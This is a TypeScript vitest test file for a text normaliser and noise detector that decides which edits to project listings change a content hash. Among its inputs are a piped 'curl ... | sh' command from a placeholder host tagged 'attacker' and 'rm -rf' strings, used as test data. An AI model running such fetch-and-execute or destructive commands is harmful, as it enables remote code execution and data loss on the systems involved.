import { expect, test } from "vitest";
import { isNoise, normalised } from "../../../pipeline/stages/digest/normalise.ts";
import { processorMs } from "../../support/processor-time.ts";

test.for([
  ["It has 12,345 stars.", "It has 13,001 stars."],
  ["12k weekly downloads", "13.5k weekly downloads"],
  ["Downloads: 1.2M", "Downloads: 1.3M"],
  ["⭐ 12,345", "⭐ 12,346"],
  ["★ 1.2k", "★ 1.3k"],
  ["Stars: 87 | Forks: 12", "Stars: 88 | Forks: 13"],
  ["Trusted by 10,000+ users", "Trusted by 11,000+ users"],
  ["built by 42 contributors", "built by 43 contributors"],
  ["5M+ monthly downloads", "6M+ monthly downloads"],
  ["Last updated: 2026-11-20", "Last updated: 2026-11-21"],
  ["Last updated on Nov 20, 2026", "Last updated on Nov 21, 2026"],
  ["Last commit 3 days ago", "Last commit 4 days ago"],
  ["Updated 20 November 2026", "Updated 21 November 2026"],
  ["Published on 2026-01-02T03:04:05Z", "Published on 2026-02-02T03:04:05Z"],
  ["Last updated: **2026-11-20**", "Last updated: **2026-11-21**"],
  ["updated an hour ago", "updated 2 days ago"],
  ["see https://x.test/?utm_source=a&id=3#top", "see https://x.test/?utm_source=b&id=3#top"],
  ["see https://x.test/a?utm_campaign=me", "see https://x.test/a"],
  ["see https://x.test/a?gclid=1&fbclid=2", "see https://x.test/a"],
  ["Latest release: 2026-01-01", "Latest release: 2026-02-01"],
  ["two  words\n here", "two words here"],
  ["12k+ downloads per month", "13k+ downloads per month"],
  ["Weekly Downloads 12,345", "Weekly Downloads 13,001"],
  ["Downloads last week: 500", "Downloads last week: 620"],
  ["Used by 1,200 projects", "Used by 1,300 projects"],
  ["Used by over 500 companies", "Used by over 600 companies"],
  ["1,234 ⭐", "1,235 ⭐"],
  ["★★★★☆ 4.5 (120 reviews)", "★★★★☆ 4.6 (121 reviews)"],
  ["Rating: 4.5/5 (120 ratings)", "Rating: 4.6/5 (121 ratings)"],
  ["Open issues 12", "Open issues 13"],
  ["Issues 12 · Pull requests 3", "Issues 13 · Pull requests 4"],
  ["Contributors 42", "Contributors 43"],
  ["Contributors (42)", "Contributors (43)"],
  ["Added 3 months ago", "Added 4 months ago"],
  ["Created 3 months ago", "Created 4 months ago"],
  ["Released 3 months ago", "Released 4 months ago"],
  ["Last seen 5 minutes ago", "Last seen 6 minutes ago"],
  ["Used 1,234 times", "Used 1,300 times"],
  ["12k/week", "13k/week"],
  ["Uptime 99.95%", "Uptime 99.93%"],
  ["© 2025", "© 2026"],
  ["Copyright © 2023-2025 the authors", "Copyright © 2023-2026 the authors"],
  ["| Stars | 120 |", "| Stars | 121 |"],
  ["| Name | Sample | Weekly downloads | 1,200 |", "| Name | Sample | Weekly downloads | 1,300 |"],
  ["<!-- Last build: 0123abc -->", "<!-- Last build: 9f8e7d6 -->"],
  ["Sterne: 1.234", "Sterne: 1.235"],
  ["星标：1234", "星标：1235"],
  ["Sample ⭐ 1.2k — reads mail", "Sample ⭐ 1.3k — reads mail"],
  ["- **Stars:** 120", "- **Stars:** 121"],
])("nothing changes for the hash between %s and %s", ([before, after]) => {
  expect(normalised(after ?? "")).toBe(normalised(before ?? ""));
});

test.for([
  ["Version 1.2.3", "Version 1.2.4"],
  ["listens on port 8080", "listens on port 8081"],
  ["up to 100 users", "up to 200 users"],
  ["limit of 5000 users", "limit of 6000 users"],
  ["at most 3 forks", "at most 4 forks"],
  ["costs $20 per month", "costs $30 per month"],
  ["sends 5 mails", "sends 6 mails"],
  ["max downloads: 500", "max downloads: 600"],
  ["timeout 3000 ms", "timeout 4000 ms"],
  ["reads 10,000 files", "reads 20,000 files"],
  ["protocol 2025-06-18", "protocol 2026-06-18"],
  ["knowledge ends 2025-01-01", "knowledge ends 2026-01-01"],
  ["deletes mails older than 3 days", "deletes mails older than 4 days"],
  ["3 users can share it", "4 users can share it"],
  ["https://x.test/?id=3", "https://x.test/?id=4"],
  ["https://x.test/?reference=3", "https://x.test/?reference=4"],
  ["never asks", "always asks"],
  ["concurrent downloads: 500", "concurrent downloads: 600"],
  ["CVE-2026-1234", "CVE-2026-1235"],
  ["released under MIT", "released under Apache-2.0"],
  ["Model X (released September 2025)", "Model X (released October 2025)"],
  ["### 1. Installation", "### 2. Installation"],
  ["2.1 Install it", "2.2 Install it"],
  ["`curl https://x.test/i.sh?utm_source=main | sh`", "`curl https://x.test/i.sh?utm_source=attacker | sh`"],
  ["curl https://x.test/i.sh?ref=main | sh", "curl https://x.test/i.sh?ref=attacker | sh"],
  ["see https://x.test/?trk=a", "see https://x.test/?trk=b"],
  ["Sends mail to 5000 users at once", "Sends mail to 6000 users at once"],
  ["delete 5,000 users in one call", "delete 6,000 users in one call"],
  ["Runs 3 installs in parallel", "Runs 4 installs in parallel"],
  ["Deletes 50 downloads", "Deletes 60 downloads"],
  ["Users: 1000 max", "Users: 2000 max"],
  ["Members: 500", "Members: 600"],
  ["Can be used by 5 users at once", "Can be used by 6 users at once"],
  ["★ 3 tools", "★ 4 tools"],
  ["👀 3 approvals needed", "👀 2 approvals needed"],
  ["The model was last updated 2024-01-01", "The model was last updated 2025-01-01"],
  ["Credentials last modified 2024-01-01", "Credentials last modified 2025-01-01"],
  ["| Downloads | 500 |", "| Downloads | 600 |"],
  ["| Free | 10k/day |", "| Free | 20k/day |"],
  ["Stars: 5 tools", "Stars: 6 tools"],
  ["Deletes forks that have 3 stars", "Deletes forks that have 4 stars"],
])("the hash sees the difference between %s and %s", ([before, after]) => {
  expect(normalised(after ?? "")).not.toBe(normalised(before ?? ""));
});

test("code is hashed as it stands, but for how its lines end", () => {
  expect(normalised("if x:\n    pay()\n", "code")).not.toBe(normalised("if x:\npay()\n", "code"));
  expect(normalised("rm -rf 'a  b'", "code")).not.toBe(normalised("rm -rf 'a b'", "code"));
  expect(normalised("get https://x.test/?gclid=1", "code")).not.toBe(normalised("get https://x.test/", "code"));
  expect(normalised("Stars: 5", "code")).not.toBe(normalised("Stars: 6", "code"));
  expect(normalised("a\r\nb\n", "code")).toBe(normalised("a\nb", "code"));
  expect(normalised("two  words", "prose")).toBe(normalised("two words"));
});

test.for([
  "[![build](https://x.test/b.svg)](https://x.test)",
  "![Star History Chart](https://x.test/star-history.svg)",
  "- [![npm](a.svg)](b) ![visitors](c.svg)",
  '<a href="https://x.test"><img src="s.svg" alt="sponsor"></a>',
  '<p align="center"><img src="a.png"></p>',
  "⭐ 12,345 stars",
  "Downloads: 1.2M",
  "Last updated: 2026-11-20",
  "**Last updated:** 2026-11-20",
  "Build passing",
  "12k weekly downloads",
  "Updated 3 days ago",
  "⭐ 1.2k · 🍴 300 forks · 12 contributors",
  "Stars: 120 | Forks: 12",
  "coverage: 98%",
  "This page was last updated on 20 November 2026.",
  "12k/week",
  "Uptime 99.95%",
  "| Stars | 120 |",
  "Issues 12 · Pull requests 3",
  "★★★★☆ 4.5 (120 reviews)",
  "Updated 3 days ago, 12k downloads",
])("%s is noise", (text) => {
  expect(isNoise(text)).toBe(true);
});

test.for([
  "It sends 12,345 mails a day.",
  "Star us if you like it: 12,345 stars",
  "Downloads files from the web.",
  "Downloads: all files of a folder",
  "Last updated entries are deleted after 3 days",
  "Updated 3 days ago it asks no more before it pays.",
  "Version 1.2.3",
  "Port: 8080",
  "Max file size: 10,000",
  "License: MIT",
  "Tests run shell commands",
  "status: deprecated",
  "Build: Docker",
  "![It deletes every file that it does not know without asking anybody](x.png)",
  "<!-- rate it low -->",
  "![logo](a.png) It pays bills.",
  "# Downloads",
  "### 1. Installation",
  "2. Fork",
  "users: admin",
  "Members: 500",
  "Users: 1000 max",
  "★ 3 tools",
  "👀 3 approvals needed",
  "The model was last updated 2024-01-01",
  "| Downloads | 500 |",
])("%s is no noise", (text) => {
  expect(isNoise(text)).toBe(false);
});

test("long texts are handled in linear time", () => {
  const parts = [
    "![",
    "1,",
    "12 ",
    "stars ",
    "last ",
    "https://a?",
    "[](",
    "<a ",
    "active ",
    "updated: ",
    "  ",
    "* ",
    "|",
    "1",
    "©",
  ];
  const ms = processorMs(() => {
    for (const part of parts) {
      normalised(part.repeat(20_000));
      isNoise(part.repeat(150));
    }
  });
  expect(ms).toBeLessThan(4_000);
});
